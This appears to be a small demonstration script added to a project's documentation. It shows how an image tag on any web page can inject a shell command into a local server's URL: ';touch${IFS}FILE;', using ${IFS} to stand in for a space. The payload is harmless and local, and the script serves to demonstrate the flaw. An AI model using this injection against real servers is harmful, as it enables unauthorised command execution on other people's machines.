@@ -1,0 +1,31 @@
+"""Does what a browser does with an image of a web page that anybody in the world may have written:
+
+    <img src="http://127.0.0.1:PORT/?;touch${IFS}FILE;">
+
+    python3 docs/gallery/web_page.py PORT FILE
+
+The browser asks the server at that address for the image. Not even a blank is needed in it: the
+shell puts one where ${IFS} stands.
+"""
+
+import http.client
+import pathlib
+import sys
+import time
+import urllib.request
+
+port, file = int(sys.argv[1]), pathlib.Path(sys.argv[2])
+
+try:
+    urllib.request.urlopen(f"http://127.0.0.1:{port}/?;touch${{IFS}}{file};", timeout=1)
+except (OSError, http.client.HTTPException):
+    pass  # no image came; the page does not mind
+
+until = time.monotonic() + 0.5
+while not file.exists() and time.monotonic() < until:
+    time.sleep(0.01)
+if file.exists():
+    print("the page has made", file)
+    file.unlink()
+else:
+    print("the page has made nothing")
